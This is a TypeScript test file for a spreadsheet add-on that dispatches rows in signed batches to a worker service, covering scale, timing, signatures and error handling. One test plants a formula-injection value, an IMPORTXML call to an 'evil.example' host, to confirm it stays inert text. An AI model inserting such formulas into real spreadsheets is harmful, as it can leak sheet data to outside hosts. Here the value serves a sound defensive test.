/**
 * Dispatch through the BUILT bundle in a vm: 10,000 rows, constant service calls, the time budget,
 * idempotency, signatures checked by a node:crypto server, and worker errors.
 */
import { createHmac } from 'node:crypto';
import { createServer } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bytesToHex } from '../../shared/signature.js';
import { DispatchRequestSchema } from '../../shared/schemas.js';
import { SheetModel } from '../support/sheetModel.js';
import { ensureAddonBuilt } from '../support/appsScript/ensureBuilt.js';
import { startFakeWorker, type FakeWorker } from '../support/appsScript/fakeWorker.js';
import { peopleRows, SECRET, SPREADSHEET_ID } from '../support/appsScript/fixtures.js';
import { loadAddon, type LoadAddonOptions, type LoadedAddon } from '../support/appsScript/loadAddon.js';
import { SIGNATURE_VECTORS } from '../support/appsScript/signatureVectors.js';

let worker: FakeWorker;
const open: LoadedAddon[] = [];

beforeAll(async () => {
  await ensureAddonBuilt();
  worker = await startFakeWorker({ secret: SECRET });
});
afterAll(async () => {
  await Promise.all(open.map((a) => a.close()));
  await worker.close();
});

function setup(rows: number, extra: Partial<LoadAddonOptions> = {}, settings: Record<string, unknown> = {}) {
  const model = new SheetModel();
  model.addSpreadsheet(SPREADSHEET_ID, [{ title: 'People', rows: peopleRows({ rows, tracking: true }) }]);
  const addon = loadAddon({ model, spreadsheetId: SPREADSHEET_ID, ...extra });
  open.push(addon);
  const saved = addon.call('saveSettings', { workerUrl: worker.url, secret: SECRET, ...settings }) as { ok: boolean };
  expect(saved.ok).toBe(true);
  const sheet = model.sheet(SPREADSHEET_ID, 'People')!;
  return { model, addon, sheet };
}

type Outcome = { ok: boolean; message: string; rowsSent: number; jobsAccepted: number; rowsLeft: number; errors: string[]; details: string[] };

/** Counts that must not depend on the number of rows: everything but requests, responses and per-batch Utilities. */
function fixedCounts(addon: LoadedAddon): Record<string, number> {
  const perBatch = /^(UrlFetchApp\.|HTTPResponse\.|Utilities\.)/;
  return Object.fromEntries(Object.entries(addon.counts.snapshot()).filter(([k]) => !perBatch.test(k)));
}

function dispatchedRowIds(reqs: { path: string; body: string; status: number }[]): string[] {
  return reqs.filter((r) => r.path === '/v1/dispatch' && r.status === 202).flatMap((r) => (JSON.parse(r.body) as { rows: { rowId: string }[] }).rows.map((x) => x.rowId));
}

describe('dispatch on 10,000 rows', () => {
  it('sends every row once in signed batches of ≤ 200, with a constant number of service calls', async () => {
    await worker.reset();
    const small = setup(1_000);
    small.addon.counts.reset();
    const r1 = small.addon.call('dispatchPendingRows') as Outcome;
    expect(r1.ok).toBe(true);
    const smallCounts = fixedCounts(small.addon);
    await worker.reset();

    const big = setup(10_000);
    big.addon.counts.reset();
    const t0 = Date.now();
    const r = big.addon.call('dispatchPendingRows') as Outcome;
    const ms = Date.now() - t0;
    expect(r).toMatchObject({ ok: true, rowsSent: 10_000, jobsAccepted: 20_000, rowsLeft: 0 });
    expect(r.message).toContain('Sent 10000 rows');
    expect(fixedCounts(big.addon)).toEqual(smallCounts);
    expect(big.addon.counts.get('Range.getValues')).toBeLessThanOrEqual(6);
    expect(big.addon.counts.get('Range.setValues')).toBeLessThanOrEqual(3);
    expect(big.addon.counts.get('UrlFetchApp.request')).toBe(50);
    expect(big.addon.counts.get('UrlFetchApp.fetchAll')).toBe(10);
    expect(big.addon.counts.get('Utilities.computeHmacSha256Signature')).toBe(50);

    const reqs = await worker.requests();
    expect(reqs).toHaveLength(50);
    for (const q of reqs) {
      expect(q.signatureOk, q.signatureError).toBe(true);
      const body = DispatchRequestSchema.parse(JSON.parse(q.body));
      expect(body.rows.length).toBeLessThanOrEqual(200);
      expect(body).toMatchObject({ spreadsheetId: SPREADSHEET_ID, sheetId: 0, sheetName: 'People' });
    }
    const ids = dispatchedRowIds(reqs);
    expect(new Set(ids).size).toBe(10_000);
    expect(ids).toHaveLength(10_000);
    const first = JSON.parse(reqs[0]!.body).rows[0];
    expect(first).toMatchObject({ rowId: '101', rowNumber: 2, name: 'Person 1', type: 'FF-Fi/Se-CP/B(S) #4', attempt: 1 });

    const rows = big.model.rowsOf(big.sheet);
    const h = rows[0]!;
    const col = (n: string) => h.indexOf(n);
    for (const row of [rows[1]!, rows[5000]!, rows[10_000]!]) {
      expect(row[col('youtube_status')]).toBe('queued');
      expect(row[col('drive_status')]).toBe('queued');
      expect(row[col('last_download_attempt')]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
    }
    expect(big.sheet.formulas.size).toBe(0);

    // Idempotent: a second run sends nothing new.
    await worker.reset();
    const again = big.addon.call('dispatchPendingRows') as Outcome;
    expect(again).toMatchObject({ ok: true, rowsSent: 0 });
    expect(again.message).toMatch(/Nothing to dispatch/);
    expect(await worker.requests()).toHaveLength(0);
    console.info(`10,000 rows dispatched in ${ms} ms`);
  });

  it('stops inside the 4.5-minute budget and the next run sends only the rest', async () => {
    await worker.reset();
    let clock = Date.now() - 120_000;
    let slowNetwork = true;
    const { addon, model, sheet } = setup(10_000, { now: () => clock, onFetch: () => void (slowNetwork && (clock += 60_000)) });
    const started = clock;
    const r = addon.call('dispatchPendingRows') as Outcome;
    expect(r.ok).toBe(true);
    expect(clock - started).toBeLessThanOrEqual(270_000);
    expect(r.rowsSent).toBe(4_000);
    expect(r.rowsLeft).toBe(6_000);
    expect(r.message).toMatch(/6000 rows left for the next run/);
    const firstIds = dispatchedRowIds(await worker.requests());
    expect(firstIds).toHaveLength(4_000);
    const all = model.rowsOf(sheet);
    const statuses = all.slice(1).map((row) => row[all[0]!.indexOf('youtube_status')]);
    expect(statuses.filter((s) => s === 'queued')).toHaveLength(4_000);

    await worker.reset();
    clock = Date.now();
    slowNetwork = false;
    const next = addon.call('dispatchPendingRows') as Outcome;
    expect(next).toMatchObject({ ok: true, rowsSent: 6_000, rowsLeft: 0 });
    const nextIds = dispatchedRowIds(await worker.requests());
    expect(new Set([...firstIds, ...nextIds]).size).toBe(10_000);
  });
});

describe('signature', () => {
  it('vectors: Apps Script signed bytes → hex equals node:crypto', () => {
    const { addon } = setup(1);
    for (const v of SIGNATURE_VECTORS) {
      const node = createHmac('sha256', v.secret).update(`${v.t}.${v.method}.${v.path}.${v.body}`, 'utf8').digest('hex');
      expect(node, v.name).toBe(v.hex);
      const signed = addon.evaluate(
        `Utilities.computeHmacSha256Signature(${JSON.stringify(`${v.t}.${v.method}.${v.path}.${v.body}`)}, ${JSON.stringify(v.secret)}, Utilities.Charset.UTF_8)`,
      ) as number[];
      expect(signed.some((b) => b < 0), 'Apps Script bytes are signed').toBe(true);
      expect(signed.every((b) => b >= -128 && b <= 127)).toBe(true);
      expect(bytesToHex(signed), v.name).toBe(v.hex);
    }
  });

  it('the add-on signs the exact body and the full path under a prefix', async () => {
    const prefixed = await startFakeWorker({ secret: SECRET, prefix: '/archiver' });
    try {
      const fixedNow = Date.now();
      const { addon } = setup(3, { now: () => fixedNow, uuid: () => '00000000-0000-4000-8000-000000000001' }, { workerUrl: prefixed.url + '/' });
      expect((addon.call('dispatchPendingRows') as Outcome).ok).toBe(true);
      const [req] = await prefixed.requests();
      expect(req!.path).toBe('/archiver/v1/dispatch');
      expect(req!.signatureOk).toBe(true);
      const t = Math.floor(fixedNow / 1000);
      const hex = createHmac('sha256', SECRET).update(`${t}.POST./archiver/v1/dispatch.${req!.body}`, 'utf8').digest('hex');
      expect(req!.headers['x-archiver-signature']).toBe(`t=${t},v1=${hex}`);
      expect(JSON.parse(req!.body).dispatchId).toBe('00000000-0000-4000-8000-000000000001');
    } finally {
      await prefixed.close();
    }
  });
});

describe('worker errors change no row and are reported plainly', () => {
  it('401: wrong secret', async () => {
    await worker.reset();
    const { addon, model, sheet } = setup(30);
    addon.call('saveSettings', { secret: 'a-different-secret-of-enough-length' });
    const before = JSON.stringify(model.rowsOf(sheet));
    const r = addon.call('dispatchPendingRows') as Outcome;
    expect(r.ok).toBe(false);
    expect(r.message).toMatch(/refused the request: HTTP 401 \(wrong signature\)\. Check that the shared secret/);
    expect(r.message).toMatch(/No row was changed/);
    expect(JSON.stringify(model.rowsOf(sheet))).toBe(before);
  });

  it('500', async () => {
    await worker.setMode({ kind: 'status', status: 500, body: '{"error":"internal","message":"queue is down"}' });
    try {
      const { addon, model, sheet } = setup(30);
      const before = JSON.stringify(model.rowsOf(sheet));
      const r = addon.call('dispatchPendingRows') as Outcome;
      expect(r.ok).toBe(false);
      expect(r.message).toMatch(/The worker failed: HTTP 500 \(queue is down\)/);
      expect(JSON.stringify(model.rowsOf(sheet))).toBe(before);
      const state = addon.call('getSidebarState') as { lastDispatch: { ok: boolean; errors: string[] } };
      expect(state.lastDispatch.ok).toBe(false);
    } finally {
      await worker.setMode({ kind: 'accept' });
    }
  });

  it('unreachable', async () => {
    const srv = createServer();
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
    const port = (srv.address() as { port: number }).port;
    await new Promise((r) => srv.close(r));
    const { addon, model, sheet } = setup(30, {}, { workerUrl: `http://127.0.0.1:${port}` });
    const before = JSON.stringify(model.rowsOf(sheet));
    const r = addon.call('dispatchPendingRows') as Outcome;
    expect(r.ok).toBe(false);
    expect(r.message).toMatch(new RegExp(`Could not reach the worker at http://127.0.0.1:${port}: Address unavailable`));
    expect(JSON.stringify(model.rowsOf(sheet))).toBe(before);
  });

  it('a held document lock: nothing is sent', async () => {
    await worker.reset();
    const { addon } = setup(5);
    addon.state.documentLocks.add(SPREADSHEET_ID);
    const r = addon.call('dispatchPendingRows') as Outcome;
    expect(r).toMatchObject({ ok: false, message: expect.stringMatching(/Another dispatch is running/) });
    expect(await worker.requests()).toHaveLength(0);
  });
});

describe('row selection and writes', () => {
  it('skips and reports empty and duplicate row_ids; retries failed rows with attempts left; re-sends expired leases', async () => {
    await worker.reset();
    const now = Math.floor(Date.now() / 1000) * 1000;
    const iso = (ms: number) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
    const { addon, model, sheet } = setup(8, { now: () => now });
    const h = model.rowsOf(sheet)[0]!;
    const c = (n: string) => h.indexOf(n);
    model.setCell(sheet, 1, c('row_id'), ''); // row 2: empty id
    model.setCell(sheet, 3, c('row_id'), '105'); // rows 4 and 6 share 105
    model.setCell(sheet, 6, c('youtube_status'), 'failed'); // row 7: youtube#2 → retry as attempt 3
    model.setCell(sheet, 6, c('download_errors'), 'youtube#2 network: reset');
    model.setCell(sheet, 6, c('drive_status'), 'completed');
    model.setCell(sheet, 7, c('youtube_status'), 'failed'); // row 8: out of automatic attempts
    model.setCell(sheet, 7, c('download_errors'), 'youtube#3 rate_limit: 429');
    model.setCell(sheet, 7, c('drive_status'), 'completed');
    model.setCell(sheet, 8, c('youtube_status'), 'queued'); // row 9: lease expired (3 h)
    model.setCell(sheet, 8, c('drive_status'), 'queued');
    model.setCell(sheet, 8, c('last_download_attempt'), iso(now - 3 * 3_600_000));
    model.setCell(sheet, 4, c('youtube_status'), 'downloading'); // row 5: within the lease
    model.setCell(sheet, 4, c('drive_status'), 'downloading');
    model.setCell(sheet, 4, c('last_download_attempt'), iso(now - 30 * 60_000));
    const r = addon.call('dispatchPendingRows') as Outcome;
    expect(r.ok, r.message).toBe(true);
    expect(r.details).toEqual([
      'Row 2: row_id is empty: row not dispatched',
      'Row 4: row_id "105" is duplicated: row not dispatched',
      'Row 6: row_id "105" is duplicated: row not dispatched',
    ]);
    const sent = (await worker.requests()).flatMap((q) => JSON.parse(q.body).rows as { rowNumber: number; attempt: number; youtube: string[]; drive: string[] }[]);
    expect(sent.map((s) => s.rowNumber).sort((a, b) => a - b)).toEqual([3, 7, 9]);
    const row7 = sent.find((s) => s.rowNumber === 7)!;
    expect(row7).toMatchObject({ attempt: 3, drive: [] });
    expect(model.rowsOf(sheet)[6]![c('youtube_status')]).toBe('queued');
    expect(model.rowsOf(sheet)[6]![c('drive_status')]).toBe('completed');
    expect(model.rowsOf(sheet)[8]![c('last_download_attempt')]).toBe(iso(now));
  });

  it('writes plain text: a cell holding "=…" stays text, timestamps stay strings', async () => {
    await worker.reset();
    const { addon, model, sheet } = setup(4);
    const h = model.rowsOf(sheet)[0]!;
    const c = (n: string) => h.indexOf(n);
    // Row 3 finished earlier; the worker wrote these cells RAW. Rows 2 and 4 get dispatched, so
    // row 3 lies inside the block the add-on rewrites.
    model.setCell(sheet, 2, c('youtube_status'), 'completed');
    model.setCell(sheet, 2, c('drive_status'), 'completed');
    model.setCell(sheet, 2, c('last_download_attempt'), '=IMPORTXML("http://evil.example","//a")');
    model.setCell(sheet, 2, c('youtube_files'), '2026-11-21');
    const r = addon.call('dispatchPendingRows') as Outcome;
    expect(r.rowsSent).toBe(3);
    const rows = model.rowsOf(sheet);
    expect(rows[2]![c('last_download_attempt')]).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(rows[2]![c('youtube_status')]).toBe('completed');
    expect(typeof model.getCell(sheet, 1, c('last_download_attempt'))).toBe('string');
    expect(sheet.formulas.size).toBe(0);
    expect(addon.state.dateCells.get(sheet)?.size ?? 0).toBe(0);
  });

  it('leaves a status the worker changed meanwhile alone', async () => {
    await worker.reset();
    const { addon, model, sheet } = setup(2, {
      onFetch: () => {
        // the worker finishes row 2 before the add-on writes "queued"
        const h = model.rowsOf(sheet)[0]!;
        model.setCell(sheet, 1, h.indexOf('youtube_status'), 'completed');
      },
    });
    const r = addon.call('dispatchPendingRows') as Outcome;
    expect(r.message).toMatch(/1 status cell changed meanwhile/);
    const rows = model.rowsOf(sheet);
    expect(rows[1]![rows[0]!.indexOf('youtube_status')]).toBe('completed');
    expect(rows[1]![rows[0]!.indexOf('drive_status')]).toBe('queued');
    expect(rows[2]![rows[0]!.indexOf('youtube_status')]).toBe('queued');
  });
});
